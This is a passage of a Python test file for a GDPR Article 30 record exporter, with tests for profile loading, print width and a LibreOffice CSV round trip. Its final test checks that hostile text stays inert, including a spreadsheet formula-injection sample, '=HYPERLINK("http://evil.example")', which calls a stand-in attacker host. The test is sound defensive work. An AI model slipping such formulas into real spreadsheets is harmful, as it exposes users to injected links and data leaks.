    raw["sheets"][1]["name"] = "Fiche"
    path = tmp_path / "broken.yaml"
    path.write_text(yaml.safe_dump(raw, allow_unicode=True), encoding="utf-8")
    with pytest.raises(ProfileError, match="number"):
        load_profile(path)


@pytest.mark.parametrize("name", profiles())
def test_a_fiche_prints_at_the_width_of_one_page(name: str) -> None:
    """A fiche wider than the page would print its last column on pages of its own."""
    spec = load_profile(name)
    for sheet in spec.sheets:
        if sheet.kind == "fiche":
            assert xlsx.print_sections(sheet.width, 0, spec.print_scale) == [len(sheet.width)]


# --- LibreOffice ---------------------------------------------------------------------------------


def soffice() -> str:
    """The LibreOffice binary; the test is skipped without one, except in CI, where it fails."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found:
        return found
    reason = (
        "LibreOffice is not installed (soffice not on PATH); install it with "
        "`apt-get install -y --no-install-recommends libreoffice-calc`"
    )
    if os.environ.get("CI") == "true":
        pytest.fail(f"{reason}: CI=true requires the LibreOffice round trip")
    pytest.skip(reason)


def libreoffice_csv(data: bytes, sheet_number: int, folder: Path) -> Rows:
    """One sheet of the workbook as LibreOffice converts it to CSV (UTF-8, comma, quotes)."""
    binary = soffice()
    source = folder / "record.xlsx"
    source.write_bytes(data)
    out = folder / "out"
    filter_options = f"44,34,76,1,,0,false,true,false,false,false,{sheet_number}"
    done = subprocess.run(
        [
            binary,
            "--headless",
            "--norestore",
            f"-env:UserInstallation={(folder / 'lo-profile').as_uri()}",
            "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{filter_options}",
            "--outdir",
            str(out),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr or done.stdout
    converted = sorted(out.glob("*.csv"))
    assert len(converted) == 1, converted
    with converted[0].open(encoding="utf-8", newline="") as handle:
        return [list(row) for row in csv.reader(handle)]


def test_libreoffice_reads_the_record(
    ico: bytes, tmp_path: Path, document: m.RegistryDocument
) -> None:
    number = sheet_names(ico).index("Controller record") + 1
    table = libreoffice_csv(ico, number, tmp_path)
    assert table[0][0] == "Name and contact details of the controller (Article 30(1)(a))"
    columns = sheet_yaml("ico", "Controller record")["columns"]
    shown = [c["heading"] for c in columns if not c.get("regime")]
    assert table[HEAD][: len(shown)] == shown
    key = table[HEAD].index("Activity ID")
    purposes = {row[key]: row[1] for row in table[HEAD + 1 :]}
    for activity in activities(document):
        assert purposes[activity.key] == "\n".join(activity.purposes)


def test_libreoffice_keeps_hostile_text_as_text(
    hostile: tuple[m.RegistryDocument, bytes], tmp_path: Path
) -> None:
    _, data = hostile
    number = sheet_names(data).index("Controller record") + 1
    table = libreoffice_csv(data, number, tmp_path)
    key = table[HEAD].index("Activity ID")
    name = table[HEAD].index("Processing activity")
    names = {row[key]: row[name] for row in table[HEAD + 1 :]}
    for index, text in enumerate(HOSTILE[:4]):
        assert names[f"hostile-{index}"] == text
    assert names["hostile-7"] == HOSTILE[7]
    assert table[2][1] == '=HYPERLINK("http://evil.example")'
